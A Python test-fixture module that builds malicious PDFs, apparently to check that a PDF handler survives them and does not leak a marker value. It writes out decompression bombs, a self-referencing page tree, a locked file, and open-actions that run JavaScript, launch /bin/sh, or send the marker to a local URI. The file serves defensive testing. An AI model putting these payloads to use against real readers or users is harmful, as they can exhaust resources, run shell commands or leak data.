"""PDFs as somebody might send them to do harm, written by hand."""

from __future__ import annotations

import zlib

MARK = b"PatientPhone07700900471"  # stands in what must not come through


def paper(*objects: bytes, pages: int = 1, stream: bytes = b"0 0 1 rg 20 20 80 80 re f") -> bytes:
    """A small PDF. `objects` are put into its catalogue, as text."""
    kids = b" ".join(b"%d 0 R" % (4 + place) for place in range(pages))
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % b" ".join(objects),
        b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, pages),
        b"<< /Length %d >>\nstream\n%b\nendstream" % (len(stream), stream),
        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 3 0 R >>"] * pages,
    ]
    return pdf_of(parts)


def pdf_of(parts: list[bytes], trailer: bytes = b"") -> bytes:
    out, starts = bytearray(b"%PDF-1.7\n"), []
    for number, part in enumerate(parts, 1):
        starts.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    out += b"".join(b"%010d 00000 n \n" % start for start in starts)
    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\n" % (len(parts) + 1, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)


def paper_with_form() -> bytes:
    """A form of one box that somebody filled in: what is written there is black."""
    box = b"0 0 0 rg 0 0 100 50 re f"
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            b"<< /Length 0 >>\nstream\n\nendstream",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 50] /Contents 3 0 R "
            b"/Annots [5 0 R] >>",
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (yes) /Rect [0 0 100 50] /F 4 "
            b"/AP << /N 6 0 R >> >>",
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 100 50] /Length %d >>\nstream\n%b\n"
            b"endstream" % (len(box), box),
        ]
    )


def locked_paper() -> bytes:
    """Its encryption is made so that no empty password opens it."""
    secret = b"<" + b"ab" * 32 + b">"
    encrypt = b"<< /Filter /Standard /V 1 /R 2 /P -4 /O %b /U %b >>" % (secret, secret)
    kids = b"<< /Type /Pages /Kids [] /Count 0 >>"
    parts = [b"<< /Type /Catalog /Pages 2 0 R >>", kids, encrypt]
    return pdf_of(parts, b"/Encrypt 3 0 R /ID [<00> <00>]")


def paper_that_swells() -> bytes:
    """One page whose drawing is a hundred million signs, packed into a hundred thousand."""
    packed = zlib.compress(zlib.compress(b"0 0 m 9 9 l S\n" * 7_000_000, 9), 9)
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R >>",
        b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%b\nendstream"
        % (len(packed), packed),
    ]
    return pdf_of(parts)


def paper_with_large_picture() -> bytes:
    """A picture of 900 megapixels on one page."""
    packed = zlib.compress(zlib.compress(b"\0" * 90_000_000, 9), 9)
    draws = b"200 0 0 300 0 0 cm /P Do"
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R "
        b"/Resources << /XObject << /P 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%b\nendstream" % (len(draws), draws),
        b"<< /Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%b\n"
        b"endstream" % (len(packed), packed),
    ]
    return pdf_of(parts)


def paper_in_itself() -> bytes:
    """Pages that are their own parents and children."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Parent 3 0 R /Count 2 >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Parent 2 0 R /Count 2 >>",
        ]
    )


JS = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)%b) >>" % MARK
LAUNCH = b"/OpenAction << /S /Launch /F (/bin/sh) /D (%b) >>" % MARK
LINK = b"/OpenAction << /S /URI /URI (http://127.0.0.1:9/%b) >>" % MARK
ATTACHED = b"/Names << /EmbeddedFiles << /Names [(%b) << /Type /Filespec /F (a) >>] >> >>" % MARK
